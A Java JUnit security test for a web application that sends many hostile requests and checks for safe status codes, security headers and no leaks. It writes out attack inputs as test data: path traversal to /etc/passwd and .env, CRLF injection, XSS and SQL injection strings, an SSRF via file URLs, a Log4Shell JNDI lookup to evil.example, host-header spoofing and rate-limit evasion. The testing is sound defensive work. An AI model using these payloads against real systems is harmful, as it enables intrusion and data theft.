package org.vitrine.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.List;
import org.assertj.core.api.SoftAssertions;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.vitrine.ApplicationTest;

/// Whatever is sent, the answer is one that was meant, guarded, and tells nothing about the server.
@ApplicationTest
class HostileRequestsTest {
    private static final String LONG = "a".repeat(3000);

    @LocalServerPort
    private int port;

    private Wire wire;

    @BeforeEach
    void aWireToTheHouse() {
        wire = new Wire(port);
    }

    private static void isMeant(Wire.Answer answer, String what, SoftAssertions found) {
        found.assertThat(answer.status()).as(what).isBetween(200, 499);
        isGuarded(answer, what, found);
    }

    private static void isGuarded(Wire.Answer answer, String what, SoftAssertions found) {
        found.assertThat(answer.header("X-Content-Type-Options")).as(what).isEqualTo("nosniff");
        found.assertThat(answer.header("Content-Security-Policy"))
                .as(what)
                .startsWith("default-src 'none'")
                .contains("frame-ancestors")
                .doesNotContain("unsafe");
        found.assertThat(answer.header("Referrer-Policy")).as(what).isNotEmpty();
        found.assertThat(answer.header("Permissions-Policy")).as(what).contains("camera=()");
        found.assertThat(answer.header("Cross-Origin-Opener-Policy")).as(what).isEqualTo("same-origin");
        found.assertThat(answer.header("Cross-Origin-Resource-Policy")).as(what).isNotEmpty();
        found.assertThat(answer.header("Set-Cookie")).as(what).isEmpty();
        found.assertThat(answer.header("Server")).as(what).isEmpty();
        found.assertThat(answer.body())
                .as(what)
                .doesNotContain("Exception", "org.vitrine", "org.spring", "Tomcat", "HTTP Status", "java.");
    }

    private void eachIsMeant(List<String> targets) {
        var found = new SoftAssertions();
        targets.forEach(target -> isMeant(wire.get(target), target.substring(0, Math.min(90, target.length())), found));
        found.assertAll();
    }

    @Test
    void noPathLeadsAstray() {
        eachIsMeant(List.of(
                "/review/%2e%2e/studio",
                "/review/%2E%2E/%2E%2E/studio",
                "/review/../studio",
                "/exhibits/..;/studio",
                "/exhibits/..;a=b/studio/login",
                "/exhibits/.;/x",
                "/exhibits/%2e/x",
                "/exhibits/..",
                "/..",
                "/../../../../etc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/assets/..%2f..%2fapplication.yml",
                "/assets/..%5c..%5capplication.yml",
                "/assets/%252e%252e%252fapplication.yml",
                "/assets/%c0%ae%c0%ae/application.yml",
                "/exhibits/a%2fb",
                "/exhibits/a%2Fb/c",
                "/exhibits/%00",
                "/exhibits/a%00.jpg",
                "/exhibits/a%0d%0aSet-Cookie:x=y",
                "/exhibits/%ff%fe",
                "/exhibits/%e2%80%ae",
                "/exhibits/%f0%9f%95%af",
                "/exhibits/%zz",
                "/exhibits/con",
                "/exhibits/nul.txt",
                "/exhibits/aux/prn",
                "/exhibits/C:%5cwindows",
                "/exhibits/editions",
                "/exhibits/editions/editions",
                "/exhibits/share/editions/1/share.jpg",
                "/exhibits/" + LONG,
                "/exhibits/x/" + LONG,
                "/documents/" + LONG,
                "/documents/..%3b/x",
                "/documents/;jsessionid=1",
                "/documents/x;y=z",
                "//evil.example/",
                "//evil.example/exhibits/",
                "/%2f%2fevil.example/",
                "/\\evil.example",
                "/exhibits//evil.example/",
                "/exhibits/https:%2f%2fevil.example/",
                "/.",
                "/.env",
                "/.git/config",
                "/WEB-INF/web.xml",
                "/META-INF/resources/assets/",
                "/error",
                "/error?status=500",
                "/files/" + "0".repeat(64) + "/..%2f..%2fx",
                "/media/" + "Z".repeat(64) + "/640.jpg",
                "/media/" + "0".repeat(64) + "/99999.jpg",
                "/iiif/image/..%2f..%2fx/full/max/0/default.jpg",
                "/iiif/image/" + "0".repeat(64) + "/full/99999999999,/0/default.jpg",
                "/iiif/image/" + "0".repeat(64) + "/pct:1e99,0,0,0/max/NaN/default.jpg",
                "/zz-ZZ-zz/exhibits/x",
                "/de-" + "a".repeat(300) + "/exhibits/x",
                "/sitemap-999999999999999999.xml",
                "/sitemap--1.xml"));
    }

    @Test
    void noQuestionIsTooOdd() {
        var many = "a=b&".repeat(3000);
        eachIsMeant(List.of(
                "/search?q=%zz",
                "/search?q=%ff",
                "/search?q=%00%01%02",
                "/search?q=" + LONG,
                "/search?q=%22%22%22%22%22(((",
                "/search?q=*+*?+~9999+%5e9&page=-1",
                "/search?page=99999999999999999999&from=99999999&to=-99999999",
                "/search?q=a&q=b&q=c&language=x&language=y",
                "/search?q[]=a&q[b]=c",
                "/search?kind=%3Cscript%3Ealert(1)%3C/script%3E",
                "/search?order=%27%20or%201=1--",
                "/search?" + many,
                "/search?=&&&==&",
                "/documents?q=%00&page=0",
                "/documents?page=-2147483649&kind=" + LONG,
                "/?lang=%00",
                "/?lang=de&lang=en",
                "/?lang=..%2f..",
                "/oembed?url=" + "http%3A%2F%2F".repeat(200),
                "/oembed?url=file%3A%2F%2F%2Fetc%2Fpasswd",
                "/oembed?url=http%3A%2F%2F%5B&format=json",
                "/oembed?url=http%3A%2F%2F127.0.0.1%3A" + port + "%2Fexhibits%2F%00",
                "/oembed?url=x&maxwidth=-1&maxheight=99999999999999",
                "/unapi?id=%00&format=%00",
                "/unapi?id=..%2f..%2f&format=ris",
                "/oai?verb=%00",
                "/oai?verb=GetRecord&identifier=%3Cx%3E%01&metadataPrefix=oai_dc",
                "/oai?verb=ListRecords&resumptionToken=" + LONG,
                "/oai?verb=ListRecords&metadataPrefix=oai_dc&from=99999-99-99",
                "/oai?verb=Identify&verb=Identify",
                "/api/documents?page=1e9&size=-5",
                "/api/documents/%00",
                "/api/exhibits/%3Cscript%3E",
                "/iiif/documents/%00/manifest.json"));
    }

    @Test
    void noHeaderIsTooOdd() {
        var found = new SoftAssertions();
        for (var header : List.of(
                "Accept-Language: " + "de;q=0.1,".repeat(600) + "en",
                "Accept-Language: *;q=*;;;,,,",
                "Accept-Language: \u00ff\u0001",
                "Accept-Language: de-" + "a".repeat(4000),
                "Accept-Encoding: gzip;q=nan, br;q=;;",
                "Accept: ;;;/*/",
                "Accept: a/b;q=x",
                "If-None-Match: \"\"\"\"W/,,,",
                "If-None-Match: *",
                "If-Modified-Since: yesterday",
                "Range: bytes=99999999999999999999-",
                "Range: bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7,8-8,9-9",
                "Range: bytes=--",
                "If-Range: ???",
                "Origin: null",
                "Origin: https://evil.example\u0001",
                "Content-Length: 99999999999999999999",
                "Transfer-Encoding: chunked, identity",
                "Expect: 200-maybe",
                "Upgrade: h2c",
                "Cookie: vitrine-studio=../../x; a=" + "b".repeat(3000),
                "Forwarded: for=evil.example;host=evil.example;proto=https",
                "X-Forwarded-For: ,,,<script>,::::,999.999.999.999",
                "X-Forwarded-Proto: javascript",
                "X-HTTP-Method-Override: DELETE",
                "Purpose: \u0001",
                "User-Agent: ${jndi:ldap://evil.example/a} %n%s")) {
            for (var target :
                    List.of("/", "/search?q=lamp", "/oai?verb=Identify", "/favicon.ico", "/iiif/collection.json")) {
                var answer = wire.get(target, header);
                var what = target + " with " + header.substring(0, Math.min(60, header.length()));
                // A transfer coding that nobody knows is 501 by the rules.
                found.assertThat(answer.status()).as(what).isIn(200, 206, 304, 400, 404, 406, 412, 416, 417, 501);
                isGuarded(answer, what, found);
            }
        }
        found.assertAll();
    }

    @Test
    void whatIsNoRequestIsAnsweredWithoutAWordAboutTheServer() {
        var found = new SoftAssertions();
        var sent = new LinkedHashMap<String, String>();
        sent.put("no HTTP", "GARBAGE\r\n\r\n");
        sent.put("no host", "GET / HTTP/1.1\r\nConnection: close\r\n\r\n");
        sent.put("two hosts", "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n");
        sent.put("a host with a blank", "GET / HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n");
        sent.put(
                "a target of another host",
                "GET http://evil.example/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
        sent.put("brackets", "GET /[]{}| HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
        sent.put("a version to come", "GET / HTTP/9.1\r\nHost: a\r\nConnection: close\r\n\r\n");
        sent.put("a header without a name", "GET / HTTP/1.1\r\nHost: a\r\n: x\r\nConnection: close\r\n\r\n");
        sent.put("a header too long", "GET / HTTP/1.1\r\nHost: a\r\nX: " + "a".repeat(20_000) + "\r\n\r\n");
        sent.put("a line too long", "GET /" + "a".repeat(20_000) + " HTTP/1.1\r\nHost: a\r\n\r\n");
        sent.forEach((what, bytes) -> {
            var answer = wire.send(bytes);
            found.assertThat(answer.status()).as(what).isIn(400, 414, 431, 505);
            isGuarded(answer, what, found);
            found.assertThat(answer.body()).as(what).contains("<html lang=\"en\"", "Darauf gibt es keine Antwort");
        });
        found.assertAll();
    }

    @Test
    void everyErrorIsSaidInTheHousesLookAndLeadsNowhereElse() {
        var found = new SoftAssertions();
        var wanted = new LinkedHashMap<String, Integer>();
        wanted.put("GET //evil.example/", 400);
        wanted.put("GET /search?q=%zz", 400);
        wanted.put("GET /nothing", 404);
        wanted.put("TRACE /", 405);
        wanted.put("POST /about", 404);
        wanted.forEach((what, status) -> {
            var answer = wire.send(what + " HTTP/1.1\r\nHost: 127.0.0.1:" + port
                    + "\r\nAccept-Language: de\r\nConnection: close\r\n\r\n");
            found.assertThat(answer.status()).as(what).isEqualTo(status);
            isGuarded(answer, what, found);
            found.assertThat(answer.header("Cache-Control")).as(what).contains("no-store");
            found.assertThat(answer.body()).as(what).contains("<html lang=\"de\"", "class=\"footer\"");
            var page = Jsoup.parse(answer.body());
            found.assertThat(page.select("[href^=//], [href^=http], [action^=//]"))
                    .as(what)
                    .isEmpty();
            found.assertThat(page.expectFirst("h1").text()).as(what).doesNotContain("!", "title");
        });
        found.assertAll();
    }

    @Test
    void theHostIsWhatTheRequestIsForAndNotWhatItClaims() {
        for (var header : List.of(
                "X-Forwarded-Host: evil.example",
                "X-Host: evil.example",
                "Forwarded: host=evil.example",
                "X-Forwarded-Port: 6666")) {
            for (var target : List.of(
                    "/robots.txt", "/exhibits/halvern-strait", "/feed", "/iiif/collection.json", "/exhibits/")) {
                assertThat(wire.get(target, header))
                        .as(target + " with " + header)
                        .satisfies(answer ->
                                assertThat(answer.head() + answer.body()).doesNotContain("evil.example", ":6666"));
            }
        }
        assertThat(wire.get("/studio", "X-Forwarded-Host: evil.example").header("Location"))
                .doesNotContain("evil.example");
    }

    @Test
    void onlyWhereThereIsTlsBrowsersAreTold() {
        assertThat(wire.get("/").header("Strict-Transport-Security")).isEmpty();
        for (var target : List.of("/", "/nothing", "/exhibits/", "/studio/login")) {
            assertThat(wire.get(target, "X-Forwarded-Proto: https").header("Strict-Transport-Security"))
                    .as(target)
                    .startsWith("max-age=31536000")
                    .doesNotContain("includeSubDomains");
        }
        assertThat(wire.get("/studio/login", "X-Forwarded-Proto: https").header("Set-Cookie"))
                .contains("Secure", "HttpOnly", "Path=/studio");
    }

    @Test
    void whoAsksTooOftenIsAskedToWaitInTheHousesLookAndOthersAreNot() {
        var greedy = "X-Forwarded-For: 203.0.113.77";
        Wire.Answer answer;
        do {
            answer = wire.get("/unapi", greedy);
        } while (answer.status() == 200);
        assertThat(answer.status()).isEqualTo(429);
        assertThat(Integer.parseInt(answer.header("Retry-After"))).isPositive();
        assertThat(answer.header("Access-Control-Allow-Origin")).isEqualTo("*");
        assertThat(answer.body()).contains("class=\"footer\"", "That was a lot at once");
        assertThat(wire.get("/unapi", "X-Forwarded-For: 203.0.113.78").status()).isEqualTo(200);
        var disguised = "X-Forwarded-For: 203.0.113.79, 203.0.113.77";
        // A few pass that have become due meanwhile; a newcomer could ask hundreds of times.
        answer = wire.get("/unapi", disguised);
        for (var more = 0; more < 100 && answer.status() == 200; more++) {
            answer = wire.get("/unapi", disguised);
        }
        assertThat(answer.status())
                .as("what somebody says before the proxy adds where it comes from counts for nothing")
                .isEqualTo(429);
    }
}
